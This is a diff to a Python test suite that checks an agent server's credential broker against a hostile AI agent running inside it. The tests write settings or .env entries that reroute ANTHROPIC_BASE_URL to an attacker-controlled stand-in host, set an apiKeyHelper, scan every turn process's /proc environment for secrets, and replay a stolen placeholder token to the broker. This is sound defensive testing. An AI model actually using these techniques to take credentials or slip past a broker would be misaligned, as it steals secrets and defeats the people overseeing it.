@@ -2,13 +2,21 @@
 
 Each request the stand-in receives is captured whole (the credential only as its
 fingerprint), so a turn through the broker is compared field by field with the same
-turn whose CLI held the credential itself. These tests FAIL under CI when the CLI is
-missing (`require_real_cli`), they never skip there.
+turn whose CLI held the credential itself. The agent's attacks (a settings file or a
+`.env` `CLAUDE_CONFIG_DIR` routing to its own host, an `apiKeyHelper`, its tools reading
+every process of the turn, a placeholder taken and used after its turn) run twice:
+with the CLI as the server's uid and as the spawn user (`AGENT_SERVER_SPAWN_USER`, a
+root server, as the image runs). These tests FAIL under CI when the CLI is missing
+(`require_real_cli`), they never skip there.
 """
 
 from __future__ import annotations
 
 import json
+import os
+import pwd
+import re
+import tempfile
 import threading
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -22,6 +30,7 @@ from starlette.responses import Response
 
 from tests.conftest import SecretRegistry
 from tests.e2e.conftest import TurnServers
+from tests.support.agent_user import Reachable, spawn_test_user
 from tests.support.messages_api import (
     QUIET_CLI,
     Headroom,
@@ -253,34 +262,100 @@ def test_a_rate_limit_is_the_apis_429_and_a_reset_past_its_window_is_not_believe
     assert response.headers[OVERRIDE_HEADER] == "oauth_token"
 
 
-def write_settings(home: Path, settings: dict[str, Any]) -> None:
-    """The agent's own Claude Code user settings (`~/.claude/settings.json`)."""
-    folder = home / ".claude"
-    folder.mkdir(exist_ok=True)
-    (folder / "settings.json").write_text(json.dumps(settings))
+@dataclass(frozen=True)
+class Hostile:
+    """A brokered server and where its CLI's agent writes: its home, as its uid."""
+
+    server: ServerProcess
+    home: Path
+    uid: int
+    scratch: Path
+    """A directory the agent's CLI can read (a `CLAUDE_CONFIG_DIR` of the agent's)."""
+
+    def write(self, path: Path, text: str) -> None:
+        """A file of the agent's (its folders too), owned as the agent would own it."""
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+        for made in (path.parent, path):
+            os.chown(made, self.uid, self.uid)
+
+    def write_settings(self, settings: dict[str, Any]) -> None:
+        """The agent's own Claude Code user settings (`~/.claude/settings.json`)."""
+        self.write(self.home / ".claude" / "settings.json", json.dumps(settings))
 
 
-@pytest.fixture(name="hostile_home")
-def hostile_home_fixture(brokered: ServerProcess) -> Iterator[Path]:
-    """The brokered server's home, whose settings file the test writes; removed after."""
-    home = Path(brokered.environ["HOME"])
-    yield home
+@pytest.fixture(scope="module")
+def spawn_user() -> pwd.struct_passwd:
+    """The test spawn user (created when missing; root only, as CI runs)."""
+    return spawn_test_user()
+
+
+@pytest.fixture(scope="module")
+def reachable(spawn_user: pwd.struct_passwd) -> Iterator[Reachable]:
+    """The real CLI and the directories the spawn user must reach."""
+    copies = Reachable(spawn_user.pw_uid)
+    try:
+        yield copies
+    finally:
+        copies.close()
+
+
+@pytest.fixture(scope="module")
+def as_spawn_user(
+    module_turn_servers: TurnServers,
+    cli: Path,
+    api: CapturingStandIn,
+    secret_registry: SecretRegistry,
+    spawn_user: pwd.struct_passwd,
+    reachable: Reachable,
+) -> ServerProcess:
+    """Through the broker, each turn's CLI running as the spawn user (the CLI's copy is
+    no path `broker_default` knows, so the broker is named)."""
+    work = reachable.directory("work")
+    return module_turn_servers.start(
+        module_turn_servers.home("spawn-user"),
+        AGENT_SERVER_BROKER="1",
+        AGENT_SERVER_SPAWN_USER=spawn_user.pw_name,
+        AGENT_SERVER_RUNTIME_COMMAND=str(reachable.program(cli)),
+        AGENT_SERVER_WORKDIR=str(work),
+        AGENT_SERVER_ENV_FILE=str(work / ".env"),
+        ANTHROPIC_BASE_URL=api.base_url,
+        CLAUDE_CODE_OAUTH_TOKEN=secret_registry.new("broker_spawn_user_baseline"),
+        **QUIET_CLI,
+    )
+
+
+@pytest.fixture(params=["same uid", "spawn user"])
+def hostile(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Hostile]:
+    """A brokered server whose agent attacks, as the server's uid or as the spawn user;
+    the settings file it writes is removed after."""
+    if request.param == "same uid":
+        server: ServerProcess = request.getfixturevalue("brokered")
+        home, uid, scratch = Path(server.environ["HOME"]), os.getuid(), tmp_path
+    else:
+        server = request.getfixturevalue("as_spawn_user")
+        user: pwd.struct_passwd = request.getfixturevalue("spawn_user")
+        reach: Reachable = request.getfixturevalue("reachable")
+        home, uid = Path(user.pw_dir), user.pw_uid
+        scratch = Path(tempfile.mkdtemp(prefix="agent-config-", dir=reach.root))
+        os.chown(scratch, uid, uid)
+    yield Hostile(server, home, uid, scratch)
     (home / ".claude" / "settings.json").unlink(missing_ok=True)
+    server.env_file.unlink(missing_ok=True)
 
 
 def test_a_settings_file_base_url_takes_nothing_usable_to_the_agents_host(
-    brokered: ServerProcess,
+    hostile: Hostile,
     api: CapturingStandIn,
     agent_host: CapturingStandIn,
     secret_registry: SecretRegistry,
-    hostile_home: Path,
 ) -> None:
     """The agent's host gets a placeholder, never the override; the API gets nothing,
     and the answer credits no credential."""
-    write_settings(hostile_home, {"env": {"ANTHROPIC_BASE_URL": agent_host.base_url}})
+    hostile.write_settings({"env": {"ANTHROPIC_BASE_URL": agent_host.base_url}})
     secret = secret_registry.new("broker_rerouted")
     before_api, before_host = len(api.captured), len(agent_host.captured)
-    response = post(brokered, {"message": "hi", "auth_override": {"oauth_token": secret}})
+    response = post(hostile.server, {"message": "hi", "auth_override": {"oauth_token": secret}})
     (stolen,) = agent_host.captured[before_host:]
     assert stolen.headers["authorization"] != "fp:" + fingerprint(secret)
     assert api.captured[before_api:] == []
@@ -290,18 +365,17 @@ def test_a_settings_file_base_url_takes_nothing_usable_to_the_agents_host(
 
 
 def test_an_api_key_helper_never_changes_the_credential_the_api_sees_or_the_answer_names(
-    brokered: ServerProcess,
+    hostile: Hostile,
     api: CapturingStandIn,
     secret_registry: SecretRegistry,
-    hostile_home: Path,
 ) -> None:
     """The CLI takes the agent's own key (its `apiKeySource` says so); the broker refuses
     it, so it goes nowhere, and the auth failure the CLI reports blames nobody."""
     own_key = secret_registry.new("agent_own_key")
-    write_settings(hostile_home, {"apiKeyHelper": f"echo {own_key}"})
+    hostile.write_settings({"apiKeyHelper": f"echo {own_key}"})
     secret = secret_registry.new("broker_helper")
     before = len(api.captured)
-    response = post(brokered, {"message": "hi", "auth_override": {"oauth_token": secret}})
+    response = post(hostile.server, {"message": "hi", "auth_override": {"oauth_token": secret}})
     assert api.captured[before:] == []  # the broker refused the agent's key: sent nowhere
     assert OVERRIDE_HEADER not in response.headers
     detail = response.json()["detail"]
@@ -316,54 +390,65 @@ def test_an_api_key_helper_never_changes_the_credential_the_api_sees_or_the_answ
 
 @pytest.mark.parametrize("kind", ["oauth_token", "api_key", "provider"])
 def test_no_credential_is_in_any_process_of_the_turn(
-    brokered: ServerProcess, api: CapturingStandIn, secret_registry: SecretRegistry, kind: str
+    hostile: Hostile, api: CapturingStandIn, secret_registry: SecretRegistry, kind: str
 ) -> None:
     """The turn's Bash tool prints its own environment and every process's of the turn
     (the CLI's too): neither the override nor the baseline is there, a gateway's token
-    included; the CLI held a placeholder, and the API still got the credential."""
+    included; the CLI held a placeholder, and the API still got the credential. The
+    gateway's placeholder the tool read is refused by the broker once the turn is over,
+    and goes nowhere."""
     secret = secret_registry.new(f"broker_tool_{kind}")
     api.on(secret, Scenario.BASH_TOOL)
     override: dict[str, Any] = {kind: secret}
     if kind == "provider":
         override = {"provider": {"base_url": api.gateway_url, "auth_token": secret}}
     before = len(api.tool_outputs)
-    response = post(brokered, {"message": "run it", "auth_override": override})
+    response = post(hostile.server, {"message": "run it", "auth_override": override})
     assert response.status_code == 200, response.text
     (output,) = api.tool_outputs[before:]  # never printed: it would hold what leaked
     assert output.count("== /proc/") >= 2, "the tool read no environment of the turn's processes"
-    baseline = brokered.environ["CLAUDE_CODE_OAUTH_TOKEN"]
+    as_its_user = f"USER={pwd.getpwuid(hostile.uid).pw_name}\n" in output
+    assert as_its_user or hostile.uid == os.getuid(), "the tool did not run as the spawn user"
+    baseline = hostile.server.environ["CLAUDE_CODE_OAUTH_TOKEN"]
     found = [
         label for label, value in (("override", secret), ("baseline", baseline)) if value in output
     ]
     assert found == []
-    assert "agent-server-placeholder-" in output or kind != "provider"
     assert response.json()["metadata"]["api_requests"] == 2  # the tool call, then the answer
+    if kind != "provider":
+        return
+    taken = re.search(r"ANTHROPIC_AUTH_TOKEN=(agent-server-placeholder-\S+)", output)
+    broker_url = re.search(r"ANTHROPIC_BASE_URL=(http://127\.0\.0\.1:\d+)", output)
+    assert taken is not None and broker_url is not None, "the tool saw no placeholder"
+    sent = len(api.captured)
+    stolen = httpx.post(
+        f"{broker_url[1]}/v1/messages",
+        headers={"authorization": f"Bearer {taken[1]}", "anthropic-version": "2023-06-01"},
+        json={"model": "claude-sonnet-4-5", "max_tokens": 1, "messages": []},
+        timeout=10,
+    )
+    assert stolen.status_code == 401, stolen.text
+    assert len(api.captured) == sent  # refused at the broker: the API heard nothing
 
 
 def test_a_claude_config_dir_in_dotenv_moves_no_credential(
-    brokered: ServerProcess,
+    hostile: Hostile,
     api: CapturingStandIn,
     agent_host: CapturingStandIn,
     secret_registry: SecretRegistry,
-    tmp_path: Path,
 ) -> None:
     """`.env`'s CLAUDE_CONFIG_DIR naming settings that route to the agent's host is not
     the route of the server's credential: the API serves the turn, the host hears nothing."""
-    config = tmp_path / "agent-config"
-    config.mkdir()
-    (config / "settings.json").write_text(
-        json.dumps({"env": {"ANTHROPIC_BASE_URL": agent_host.base_url}})
+    config = hostile.scratch / "agent-config"
+    hostile.write(
+        config / "settings.json", json.dumps({"env": {"ANTHROPIC_BASE_URL": agent_host.base_url}})
     )
-    env_file = brokered.env_file
-    env_file.write_text(f"CLAUDE_CONFIG_DIR={config}\n")
-    try:
-        secret = secret_registry.new("broker_config_dir")
-        before_host = len(agent_host.captured)
-        response, captured = turn_request(
-            api, {"message": "hi", "auth_override": {"oauth_token": secret}}, brokered
-        )
-    finally:
-        env_file.unlink()
+    hostile.write(hostile.server.env_file, f"CLAUDE_CONFIG_DIR={config}\n")
+    secret = secret_registry.new("broker_config_dir")
+    before_host = len(agent_host.captured)
+    response, captured = turn_request(
+        api, {"message": "hi", "auth_override": {"oauth_token": secret}}, hostile.server
+    )
     assert response.status_code == 200, response.text
     assert captured.headers["authorization"] == "fp:" + fingerprint(secret)
     assert agent_host.captured[before_host:] == []
